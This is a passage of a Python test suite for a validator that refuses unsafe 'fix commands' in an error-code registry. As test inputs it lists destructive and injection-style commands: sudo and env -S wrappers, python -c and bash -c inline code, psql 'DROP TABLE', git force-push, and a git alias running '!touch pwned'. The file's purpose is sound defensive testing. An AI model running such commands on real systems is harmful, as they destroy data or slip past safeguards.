    "chrt -b 0", "chrt --idle 0", "setsid", "setsid -w", "taskset 0x1", "taskset -c 0",
    "busybox", "uv run", "poetry run", "pipenv run", "hatch run", "bundle exec",
]  # fmt: skip
REFUSING = ["sudo", "sudo -u root", "doas", "xargs", "xargs -a list", "su -c", "strace"]
CORES = [
    command for command, rule in CORPUS
    if rule not in ("characters", "metacharacters", "placeholder", "parse", "expansion",
                    "too_long", "empty", "whitespace", "too_deep")
]  # fmt: skip


@SETTINGS
@given(st.lists(st.sampled_from(TRANSPARENT + REFUSING), max_size=3), st.sampled_from(CORES))
def test_a_refused_command_stays_refused_under_any_wrapper(prefixes: list[str], core: str) -> None:
    command = " ".join([*prefixes, core])
    refusal = fix_command_refusal(command)
    assert refusal is not None, command


@SETTINGS
@given(st.lists(st.sampled_from(TRANSPARENT), max_size=3), st.sampled_from(ACCEPTED))
def test_an_accepted_command_stays_accepted_under_a_transparent_wrapper(
    prefixes: list[str], core: str
) -> None:
    assert fix_command_refusal(" ".join([*prefixes, core])) is None


# (before the cluster, letters to cluster, the letter that refuses, after the cluster): every
# clustering of the letters, in any order and split into any words, is refused.
CLUSTERS = [
    ("git clean", "dx", "f", ""), ("git push origin main", "uqv", "f", ""),
    ("git push origin", "q", "d", "x"), ("git branch", "rv", "D", "x"),
    ("git checkout", "q", "f", "main"), ("git switch", "q", "f", "main"),
    ("git tag", "", "d", "v1"), ("git fetch", "qv", "f", "origin main:main"),
    ("chmod", "vc", "R", "755 x"), ("chown", "v", "R", "me x"), ("cp", "rv", "f", "a b"),
    ("mv", "vn", "f", "a b"), ("ln", "sn", "f", "a b"), ("pacman", "ns", "R", "x"),
]  # fmt: skip
# The same with a letter that takes the next word: it ends its cluster (`-Ic code`).
VALUE_CLUSTERS = [
    ("python3", "IEsuB", "c", "'import os'"), ("perl", "lnw", "e", "print"),
    ("ruby", "w", "e", "x"), ("node", "", "e", "x"), ("node", "", "p", "x"),
    ("bash", "xl", "c", "x"), ("sh", "x", "c", "x"), ("psql", "Xq", "c", "'DROP TABLE x'"),
    ("mysql", "v", "e", "'DROP TABLE x'"), ("git rebase", "i", "x", "cmd"),
    ("git clone", "q", "u", "cmd url"),
]  # fmt: skip


@st.composite
def clustered(draw: st.DrawFn, spec: tuple[str, str, str, str], *, value: bool) -> str:
    before, letters, refusing, after = spec
    order = draw(st.permutations([*letters, refusing] if not value else list(letters)))
    if value:
        order = [*order, refusing]  # a value letter ends its cluster
    cuts = sorted(draw(st.sets(st.integers(1, max(1, len(order) - 1)), max_size=len(order))))
    groups = [order[start:end] for start, end in zip([0, *cuts], [*cuts, len(order)], strict=True)]
    words = ["-" + "".join(group) for group in groups if group]
    return " ".join(part for part in [before, *words, after] if part)


@SETTINGS
@given(st.sampled_from(CLUSTERS).flatmap(lambda spec: clustered(spec, value=False)))
def test_any_clustering_of_a_refused_flag_is_refused(command: str) -> None:
    assert fix_command_refusal(command) is not None, command


@SETTINGS
@given(st.sampled_from(VALUE_CLUSTERS).flatmap(lambda spec: clustered(spec, value=True)))
def test_any_clustering_of_inline_code_is_refused(command: str) -> None:
    assert fix_command_refusal(command) is not None, command


@SETTINGS
@given(
    st.sampled_from(["mytool", "pip", "git", "npm", "uv", "brew", "claude", "gh", "python3"]),
    st.lists(
        st.from_regex(r"[a-z][a-z0-9._/@-]{0,12}", fullmatch=True)
        | st.sampled_from(["--verbose", "-q", "--name=x y", "'a b'", '"c d"', "-U"]),
        max_size=6,
    ),
)
def test_an_accepted_command_round_trips_through_shlex(program: str, words: list[str]) -> None:
    command = " ".join([program, *words])
    if fix_command_refusal(command) is not None:
        return
    argv = shlex.split(command)
    joined = shlex.join(argv)
    assert fix_command_refusal(joined) is None, joined
    assert shlex.split(joined) == argv


# --- real programs: a refused fix never runs --------------------------------------------------


@pytest.fixture
def in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize(
    "command",
    [
        "python3 -Ic \"open('pwned', 'w')\"", "python3 -c\"open('pwned','w')\"",
        "nice python3 -c \"open('pwned', 'w')\"",
        "timeout -s KILL 5 python3 -X dev -c \"open('pwned', 'w')\"",
        "env -i python3 -Ec \"open('pwned', 'w')\"", "python3 -m timeit \"open('pwned', 'w')\"",
        "env -S 'touch pwned'", "busybox sh -c 'touch pwned'",
        "git -c alias.x='!touch pwned' x", "sh -c 'touch pwned'", "bash -lc 'touch pwned'",
    ],
)  # fmt: skip
def test_run_fix_runs_no_refused_spelling_for_real(command: str, in_tmp: Path) -> None:
    fix = rc.tools.run_fix(command)
    assert fix.ok is False
    assert fix.error is not None and fix.error.code == "invalid_input"
    assert fix.error.message.startswith("fix_command refused: fix_command ")
    assert not (in_tmp / "pwned").exists()


# --- registration states the contract --------------------------------------------------------


@pytest.fixture
def tool_code() -> Iterator[str]:
    yield "mytool_cache_stale"
    if "mytool_cache_stale" in rc.codes:
        rc.codes.unregister("mytool_cache_stale")


def _register(code: str, **fields: object) -> rc.CodeRow:
    return rc.register_code(
        code,
        user_message="The cache is out of date.",
        fix_required="Refresh it",
        **fields,  # type: ignore[arg-type]
    )


def test_a_fix_command_without_a_contract_is_refused(tool_code: str) -> None:
    with pytest.raises(
        rc.tools.FixCommandRejected, match="needs fix_contract='idempotent'"
    ) as refused:
        _register(tool_code, fix_command="mytool cache refresh")
    assert refused.value.rule == "contract"
    assert "state which at registration" in str(refused.value)
    assert tool_code not in rc.codes


@pytest.mark.parametrize("contract", ["maybe", "IDEMPOTENT", "", "destructive"])
def test_a_contract_must_be_one_of_the_two(tool_code: str, contract: str) -> None:
    with pytest.raises(rc.tools.FixCommandRejected, match=f"{contract!r} is not one") as refused:
        _register(tool_code, fix_command="mytool cache refresh", fix_contract=contract)
    assert refused.value.rule == "contract"
    assert tool_code not in rc.codes


def test_a_contract_without_a_command_is_refused(tool_code: str) -> None:
    with pytest.raises(ValueError, match="describes a fix_command it has not"):
        _register(tool_code, fix_contract="idempotent")
    assert tool_code not in rc.codes


@pytest.mark.parametrize("contract", ["idempotent", "read_only"])
def test_the_contract_is_recorded_on_the_row(tool_code: str, contract: str) -> None:
    row = _register(
        tool_code,
        fix_command={"": "mytool cache refresh", "claude": "claude auth login"},
        fix_contract=contract,
    )
    assert rc.codes[tool_code] is row
    assert (row.fix_contract, row.fix_command_for("claude")) == (contract, "claude auth login")
    check_row(row, rc.codes.destructive_subcommands)


def test_a_replacement_states_its_contract_too(tool_code: str) -> None:
    _register(tool_code, fix_command="mytool cache refresh", fix_contract="idempotent")
    with pytest.raises(rc.tools.FixCommandRejected, match="needs fix_contract"):
        _register(tool_code, fix_command="mytool cache refresh", replace=True)
    assert rc.codes[tool_code].fix_contract == "idempotent"


def test_check_row_refuses_a_row_built_without_a_contract() -> None:
    row = rc.CodeRow(
        "my_row", "tool", False, False, 4, 500, "Broken.", "Fix it", {"": "mytool sync"}
    )
    with pytest.raises(rc.tools.FixCommandRejected, match="needs fix_contract"):
        check_row(row, rc.codes.destructive_subcommands)


def test_built_in_rows_with_commands_state_idempotent() -> None:
    for row in rc.codes:
        assert row.fix_contract == ("idempotent" if row.fix_commands else None), row.code


def test_the_refusal_keeps_its_rule_through_pickle() -> None:
    import pickle

    with pytest.raises(rc.tools.FixCommandRejected) as raised:
        validate_fix_command("git push --force")
    copy = pickle.loads(pickle.dumps(raised.value))
    assert type(copy) is rc.tools.FixCommandRejected
    assert (str(copy), copy.rule) == (str(raised.value), "git_destructive")


# --- a tool's author marks its own subcommands destructive -----------------------------------


@pytest.fixture
def marked() -> Iterator[None]:
    remove = rc.codes.mark_destructive("MyTool", "obliviate", "tidy-db")
    yield
    remove()


@pytest.mark.parametrize(
    "command",
    [
        "mytool obliviate", "MYTOOL obliviate", "mytool OBLIVIATE", "mytool --verbose obliviate",
        "mytool cache obliviate", "mytool obliviate-all", "mytool tidy-db", "mytool.exe tidy-db",
        "nice -n 5 mytool obliviate", "timeout -s KILL 5 mytool obliviate",
        "env -i mytool obliviate", "uv run mytool obliviate", "python3 -m mytool obliviate",
        "python3 tools/mytool.py obliviate", "busybox mytool obliviate",
    ],
)  # fmt: skip
def test_a_marked_subcommand_is_refused_wherever_it_stands(marked: None, command: str) -> None:
    refusal = fix_command_refusal(command, rc.codes.destructive_subcommands)
    assert refusal is not None and refusal.rule == "marked_destructive", command
    with pytest.raises(rc.tools.FixCommandRejected, match="its author marked destructive"):
        validate_fix_command(command)


def test_marks_refuse_registration_and_payloads_and_come_off(marked: None, tool_code: str) -> None:
    assert validate_fix_command("mytool sync") == "mytool sync"
    with pytest.raises(rc.tools.FixCommandRejected, match="marked destructive"):
        _register(tool_code, fix_command="mytool obliviate", fix_contract="idempotent")
    detail = rc.ErrorDetail.from_dict(
        {"code": "precondition_failed", "message": "m", "fix_command": "nice mytool obliviate"}
    )
    assert detail.fix_command is None
    assert "marked destructive" in detail.details["fix_command_dropped"]
    assert fix_command_refusal("othertool obliviate", rc.codes.destructive_subcommands) is None


def test_marks_hold_for_a_program_with_its_own_reader() -> None:
    remove = rc.codes.mark_destructive("redis-cli", "ping")
    try:
        assert validate_fix_command("redis-cli info") == "redis-cli info"
        with pytest.raises(rc.tools.FixCommandRejected, match="marked destructive"):
            validate_fix_command("nice redis-cli -h localhost ping")
    finally:
        remove()
    assert validate_fix_command("redis-cli ping") == "redis-cli ping"


def test_removing_the_marks_accepts_the_subcommand_again() -> None:
    remove = rc.codes.mark_destructive("mytool", "obliviate")
    assert rc.codes.destructive_subcommands["mytool"] == frozenset({"obliviate"})
    remove()
    assert "mytool" not in rc.codes.destructive_subcommands
    assert validate_fix_command("mytool obliviate") == "mytool obliviate"


def test_a_mark_that_would_refuse_a_registered_fix_is_refused(tool_code: str) -> None:
    _register(tool_code, fix_command="mytool tidy", fix_contract="idempotent")
    with pytest.raises(
        rc.tools.FixCommandRejected, match=f"code '{tool_code}'.*unregister it"
    ) as refused:
        rc.codes.mark_destructive("mytool", "tidy")
    assert refused.value.rule == "marked_destructive"
    assert "mytool" not in rc.codes.destructive_subcommands


@pytest.mark.parametrize(
    ("program", "subcommands"),
    [("", ("purge",)), ("/usr/bin/mytool", ("purge",)), ("mytool", ()), ("mytool", ("",)),
     ("mytool", ("two words",)), ("mytool", (5,))],
)  # fmt: skip
def test_a_mark_names_a_program_and_one_word_subcommands(
    program: str, subcommands: tuple[object, ...]
) -> None:
    with pytest.raises(ValueError, match="mark_destructive"):
        rc.codes.mark_destructive(program, *subcommands)  # type: ignore[arg-type]


def test_run_fix_never_runs_a_marked_subcommand_of_a_real_tool(
    in_tmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A real program on PATH: the unmarked subcommand runs, the marked one never starts."""
    bin_dir = in_tmp / "bin"
    bin_dir.mkdir()
    tool = bin_dir / "mytool"
    tool.write_text(f"#!{sys.executable}\nimport sys\nopen(sys.argv[1] + '.ran', 'w').close()\n")
    tool.chmod(tool.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bin_dir}:{__import__('os').environ['PATH']}")
    remove = rc.codes.mark_destructive("mytool", "obliviate")
    try:
        assert rc.tools.run_fix("mytool sync").ok
        refused = rc.tools.run_fix("nice mytool obliviate")
    finally:
        remove()
    assert (in_tmp / "sync.ran").exists()
    assert refused.ok is False and not (in_tmp / "obliviate.ran").exists()
    assert refused.error is not None and "marked destructive" in refused.error.message
